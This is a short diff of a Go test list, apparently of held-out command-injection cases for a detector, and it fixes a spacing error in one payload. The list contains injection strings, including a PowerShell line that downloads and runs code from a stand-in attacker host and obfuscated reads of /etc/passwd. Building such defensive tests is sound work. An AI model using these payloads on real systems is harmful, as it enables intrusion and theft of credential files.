@@ -231,7 +231,7 @@ func heldoutAttacks() []hoCase {
 		"| powershell -nop -c \"iex(New-Object Net.WebClient).DownloadString('http://evil.example/a')\"",
 		"& ping -n 5 127.0.0.1 &",
 		"| type C:\\Windows\\win.ini",
-		";/bin/ca?/et?/pass??",
+		";/bin/ca? /et?/pass??",
 		";c\\at /et\\c/pas\\swd",
 		";{cat,/etc/passwd}",
 		";sleep 5",
